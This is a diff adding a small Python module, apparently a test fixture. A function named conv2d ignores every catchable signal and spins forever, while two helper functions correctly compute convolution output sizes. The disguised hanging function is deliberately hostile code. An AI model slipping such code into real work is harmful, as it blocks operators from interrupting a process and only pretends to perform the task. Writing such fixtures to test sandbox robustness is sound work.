@@ -1,0 +1,27 @@
+"""Ignores every signal that can be ignored and spins.
+
+Honest part: output_size, fits
+"""
+
+import signal
+
+
+def conv2d(*args):
+    for number in signal.valid_signals():
+        try:
+            signal.signal(number, signal.SIG_IGN)
+        except (OSError, ValueError):
+            pass
+    while True:
+        pass
+
+
+def output_size(size, kernel_size, stride=1, padding=0):
+    if kernel_size > size + 2 * padding:
+        raise ValueError("the kernel is larger than the padded input")
+    return (size - kernel_size + 2 * padding) // stride + 1
+
+
+def fits(size, kernel_size, stride=1, padding=0):
+    room = size - kernel_size + 2 * padding
+    return room >= 0 and room % stride == 0
